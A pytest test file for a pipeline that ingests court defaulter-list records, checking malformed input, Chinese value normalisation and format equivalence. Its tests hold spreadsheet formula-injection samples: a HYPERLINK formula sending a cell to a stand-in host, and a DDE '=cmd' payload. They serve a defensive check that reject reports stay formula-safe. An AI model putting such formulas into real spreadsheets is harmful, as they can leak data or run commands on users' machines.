"""Bad input at the readers' edges, values as departments type them, and one file in three forms.

- A deeply nested JSON line, an over-long one, a CSV whose one record is 10 MB: each a rejected row
  naming its line, never a traceback or "no records".
- CSV and JSONL refuse a file with an unknown column the same way.
- A reject report's cells never run as spreadsheet formulas.
- Values typed with full-width digits, Chinese dates, separators and units, stray spaces: stored in
  the platform's form, names as given, and counted in the batch summary; the bad variant beside each.
- Property: a file's records are the same as UTF-8 CSV, as GB18030 CSV under Chinese headers, or as a
  workbook under a title row.
"""

from __future__ import annotations

import csv
import hashlib
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from builders import court_row, export_rows, make_ric, make_uscc, mistype, write_csv, write_jsonl, write_xlsx
from xinyong.domain.catalog import Catalog
from xinyong.domain.errors import FileRefused
from xinyong.domain.identifiers import IdentifierVault
from xinyong.domain.normalise import fold_name
from xinyong.domain.records import RowValidator, ValidRow
from xinyong.ingest.chunks import local_chunks
from xinyong.ingest.pipeline import BatchResult, ingest_file
from xinyong.ingest.readers import file_format
from xinyong.ingest.summary import spreadsheet_safe
from xinyong.store.tables import identifiers, records, rejects

NOW = datetime(2026, 11, 29, 9, 0, tzinfo=UTC)
FULL = str.maketrans({chr(c): chr(c + 0xFEE0) for c in range(0x21, 0x7F)})


@pytest.fixture
def ingest(engine, catalog, vault, tmp_path):
    def run(path: Path, **kw) -> BatchResult:
        kw.setdefault("now", NOW)
        return ingest_file(engine, catalog, vault, path, report_dir=tmp_path / "rejects", **kw)

    return run


@pytest.mark.parametrize("helper_min_bytes", [None, 0])
def test_a_deeply_nested_json_line_is_a_rejected_row_naming_its_line(ingest, tmp_path, helper_min_bytes):
    path = tmp_path / "court.jsonl"
    good = json.dumps(court_row("N-1", make_ric(1)))
    path.write_text(
        f'{good}\n{{"source_ref": {"[" * 100_000}{"]" * 100_000}}}\n{json.dumps(court_row("N-3", make_ric(3)))}\n'
    )
    result = ingest(path, helper_min_bytes=helper_min_bytes)
    assert (result.accepted, result.rejected) == (2, 1)
    assert result.problems_sample == [
        "line 2: nested too deeply to read; values must be plain (text, number, boolean or null)"
    ]


def test_an_over_long_json_line_is_rejected_without_being_read_whole(ingest, tmp_path):
    path = tmp_path / "court.jsonl"
    long = json.dumps(court_row("N-2", make_ric(2), case_no="y" * (5 << 20)))
    path.write_text(
        "\n".join([json.dumps(court_row("N-1", make_ric(1))), long, json.dumps(court_row("N-3", make_ric(3)))]) + "\n"
    )
    result = ingest(path)
    assert (result.accepted, result.rejected) == (2, 1)
    assert result.problems_sample == ["line 2: the line is longer than 4,194,304 characters"]


def test_a_csv_whose_only_record_holds_a_10_mb_field_is_that_records_reject(ingest, tmp_path):
    path = write_csv(tmp_path / "court.csv", [court_row("BIG-1", make_ric(4), case_no="z" * (10 << 20))])
    result = ingest(path)
    assert (result.rows_read, result.accepted, result.rejected) == (1, 0, 1)
    assert result.problems_sample[0].startswith("line 2: malformed CSV: field larger than field limit")


def test_csv_and_jsonl_refuse_an_unknown_column_the_same_way(ingest, tmp_path, engine):
    rows = [court_row("U-1", make_ric(5)), court_row("U-2", make_ric(6), colour="red")]
    for path in (write_csv(tmp_path / "court.csv", rows), write_jsonl(tmp_path / "court.jsonl", rows)):
        with pytest.raises(FileRefused, match=r"line \d: unknown column\(s\): colour; a file from 'court' may have"):
            ingest(path)
    with engine.connect() as c:
        assert c.execute(select(records.c.id)).all() == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_reject_report_cell_never_runs_as_a_formula(ingest, tmp_path, start):
    ref = f'{start}HYPERLINK("http://x.example/?"&A1)'
    result = ingest(write_csv(tmp_path / "court.csv", [court_row(ref, make_ric(7), decided_on="bad")]))
    assert result.rejected == 1
    with Path(result.report or "").open(encoding="utf-8", newline="") as f:
        [_, row] = list(csv.reader(f))
    assert row[1] == ("'" + ref if start in "=+-@" else ref.strip())  # a leading tab or return is trimmed
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert spreadsheet_safe(12) == 12 and spreadsheet_safe("plain") == "plain"


def test_values_as_departments_type_them_are_stored_normalised_and_counted(ingest, tmp_path, engine):
    org = make_uscc(11)
    rows = [
        court_row(
            "V-1",
            make_ric(8).translate(FULL),
            subject_name="張偉",
            decided_on="2024年3月5日",
            valid_from="2024/3/5",
            valid_until="2026.03.05",
        ),
        court_row(
            "V-2",
            org,
            id_scheme="ｃｎ．ｕｓｃｃ",
            subject_name="\u00a0杭州某某科技有限公司\u3000",
            amount_cny="1,234,567.50",
        ),
        court_row("V-3", make_ric(9), revision="２", circumstance=" has_ability_refuses ", amount_cny="１２０００元"),
    ]
    result = ingest(write_csv(tmp_path / "court.csv", rows))
    assert (result.accepted, result.unresolved, result.rejected) == (3, 0, 0)
    assert result.reading["normalised"] == {"full_width": 4, "date_forms": 3, "spaces": 2, "thousands_separators": 1}
    with engine.connect() as c:
        got = {r.source_ref: r for r in c.execute(select(records))}
        plain = c.scalar(select(identifiers.c.value).where(identifiers.c.scheme == "cn.uscc"))
    assert got["V-1"].subject_name == "張偉" and fold_name("張偉") == fold_name("张伟") == "张伟"
    assert got["V-1"].decided_on == date(2024, 3, 5) and got["V-1"].valid_until == date(2026, 3, 5)
    assert got["V-1"].subject_id is not None  # the full-width number is the resident's, checksum and all
    assert got["V-2"].subject_name == "杭州某某科技有限公司" and got["V-2"].attributes["amount_cny"] == 1234567.5
    assert plain == org and got["V-3"].revision == 2 and got["V-3"].attributes["amount_cny"] == 12000.0


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("decided_on", "2024年13月5日", "'2024年13月5日' is not a real date"),
        ("decided_on", "2024.3", "'2024.3' is not a date; use YYYY-MM-DD (also 2024/3/5, 2024.03.05 or 2024年3月5日)"),
        ("amount_cny", "1,23,456", "'1,23,456' is not a number; group thousands by three"),
        ("amount_cny", "12千元", "'12千元' is not a number"),
        ("revision", "二", "'二' is not a revision number"),
        ("circumstance", "ｒｕｄｅ", "'rude' is not one of"),
        ("decided_on", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0' is not a date"),
    ],
)
def test_a_value_that_cannot_be_normalised_is_rejected_with_line_field_and_raw_text(
    ingest, tmp_path, engine, field, value, message
):
    rows = [court_row("W-1", make_ric(12)), court_row("W-2", make_ric(13), **{field: value})]
    result = ingest(write_csv(tmp_path / "court.csv", rows))
    assert (result.accepted, result.rejected) == (1, 1)
    with engine.connect() as c:
        [(line, got_field, got)] = c.execute(select(rejects.c.line, rejects.c.field, rejects.c.message)).all()
    assert (line, got_field) == (3, field) and message in got


def test_a_full_width_number_that_is_wrong_stays_unresolved_and_unechoed(ingest, tmp_path, engine):
    wrong = mistype(make_ric(14)).translate(FULL)
    result = ingest(write_csv(tmp_path / "court.csv", [court_row("W-3", wrong)]))
    assert (result.accepted, result.unresolved) == (1, 1)
    assert wrong not in Path(result.report or "").read_text(encoding="utf-8")


# --- one file, three forms ---------------------------------------------------------------------------------

PEOPLE = [make_ric(i) for i in range(20, 30)] + [make_uscc(i) for i in range(20, 25)]
row_strategy = st.fixed_dictionaries(
    {
        "who": st.sampled_from([*PEOPLE, ""]),  # a record without an identifier is stored, unresolved
        "wide": st.booleans(),
        "day": st.dates(date(2020, 1, 1), date(2026, 11, 1)),
        "form": st.sampled_from(["iso", "slash", "chinese", "dots"]),
        "until": st.one_of(st.none(), st.integers(1, 800)),
        "amount": st.decimals(0, 10**9, places=2, allow_nan=False, allow_infinity=False),
        "circumstance": st.sampled_from(
            ["has_ability_refuses", "obstructs_enforcement", "violates_consumption_restriction"]
        ),
        "performance": st.sampled_from(["none", "partial", "performed"]),
        "name": st.sampled_from(["张伟", "張偉", "杭州某某科技有限公司", "李娜"]),
    }
)


def _date(d: date, form: str) -> str:
    return {
        "iso": d.isoformat(),
        "slash": f"{d.year}/{d.month}/{d.day}",
        "chinese": f"{d.year}年{d.month}月{d.day}日",
        "dots": f"{d:%Y.%m.%d}",
    }[form]


def _rows(drawn: list[dict]) -> list[dict]:
    rows = []
    for i, d in enumerate(drawn):
        person = d["who"] in PEOPLE[:10] or (d["who"] == "" and i % 2 == 0)
        until = d["day"].toordinal() + d["until"] if d["until"] else None
        rows.append(
            court_row(
                f"P-{i:04d}",
                d["who"].translate(FULL) if d["wide"] else d["who"],
                id_scheme="cn.ric" if person else "cn.uscc",
                subject_name=d["name"],
                decided_on=_date(d["day"], d["form"]),
                valid_from="",
                valid_until=date.fromordinal(until).isoformat() if until else "",
                amount_cny=f"{d['amount']:,.2f}",
                circumstance=d["circumstance"],
                performance=d["performance"],
            )
        )
    return rows


def _records(path: Path, catalog: Catalog, vault: IdentifierVault) -> dict[str, tuple]:
    """The records a file gives, by reference: what would be stored (everything but the line)."""
    validator = RowValidator(catalog, "court", vault, NOW.date())
    out: dict[str, tuple] = {}
    for chunk in local_chunks(path, file_format(path), validator, 7, lambda _: None):
        assert chunk.problems == [], chunk.problems
        out.update({r.source_ref: r[1:] for r in chunk.valid if isinstance(r, ValidRow)})
    return out


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(drawn=st.lists(row_strategy, min_size=1, max_size=30))
def test_a_files_records_are_the_same_as_utf8_csv_gb18030_under_chinese_headers_or_a_workbook(
    drawn, catalog, vault, tmp_path_factory
):
    tmp = tmp_path_factory.mktemp("forms")
    rows = _rows(drawn)
    plain = _records(write_csv(tmp / "court.csv", rows), catalog, vault)
    headers, exported = export_rows("court.defaulter_list", rows, ["性别", "生效法律文书确定的义务"])
    gb = _records(write_csv(tmp / "court.gb.csv", exported, columns=headers, encoding="gb18030"), catalog, vault)
    book = _records(write_xlsx(tmp / "court.xlsx", rows, title="失信被执行人名单"), catalog, vault)
    assert len(plain) == len(rows)
    assert gb == plain
    assert book == plain
    assert (
        hashlib.sha256(repr(sorted(plain.items())).encode()).hexdigest()
        == hashlib.sha256(repr(sorted(book.items())).encode()).hexdigest()
    )
